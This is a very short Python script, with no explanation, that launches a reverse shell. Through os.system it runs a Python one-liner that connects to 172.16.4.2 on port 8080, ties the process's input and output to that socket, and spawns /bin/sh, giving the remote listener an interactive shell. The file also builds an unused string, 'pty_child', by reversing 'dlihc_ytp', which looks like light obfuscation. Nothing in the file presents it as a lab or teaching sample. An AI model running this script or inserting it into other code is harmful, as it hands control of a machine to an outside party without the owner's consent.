#!/usr/bin/env python3

k = "".join(reversed("dlihc_ytp"))
import os
os.system("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"172.16.4.2\",8080));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'")
